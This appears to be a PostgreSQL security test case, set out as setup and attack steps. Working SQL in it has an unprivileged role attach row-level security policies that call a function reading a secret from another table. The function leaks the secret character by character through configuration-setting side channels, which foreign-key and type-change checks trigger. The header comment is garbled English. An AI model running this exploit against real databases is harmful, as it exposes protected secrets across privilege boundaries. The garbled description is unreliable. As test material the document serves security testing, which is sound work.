-- Has policies run that make up a parameter by a letter while keys are checked, puts one in force in the same statement.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE FUNCTION coined(given text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
  PERFORM public.coin(given);
  RETURN given;
END $$;
CREATE DOMAIN coin_text AS text CHECK (coin(VALUE));
SET ROLE mallory;
CREATE TABLE p_now (id int PRIMARY KEY);
INSERT INTO p_now VALUES (1);
CREATE TABLE p_on (id int PRIMARY KEY);
INSERT INTO p_on VALUES (1);
CREATE TABLE p_both (id int PRIMARY KEY);
INSERT INTO p_both VALUES (1);
CREATE TABLE t_now (a int, v text);
INSERT INTO t_now VALUES (1, 'a');
CREATE POLICY c ON t_now USING (coin(v));
CREATE TABLE t_on (a int, v text);
INSERT INTO t_on VALUES (1, 'a');
CREATE POLICY c ON t_on USING (coin(v));
ALTER TABLE t_on ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE TABLE t_both (a int, v text);
INSERT INTO t_both VALUES (1, 'a');
ALTER TABLE t_both ADD FOREIGN KEY (a) REFERENCES p_both;
CREATE POLICY c ON t_both USING (coin(v));
ALTER TABLE t_both ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
RESET ROLE;
-- attack:
-- session: now
ALTER TABLE t_now ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY, ADD FOREIGN KEY (a) REFERENCES p_now;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: on
ALTER TABLE t_on ADD FOREIGN KEY (a) REFERENCES p_on;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: both
ALTER TABLE p_both ALTER id TYPE bigint;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
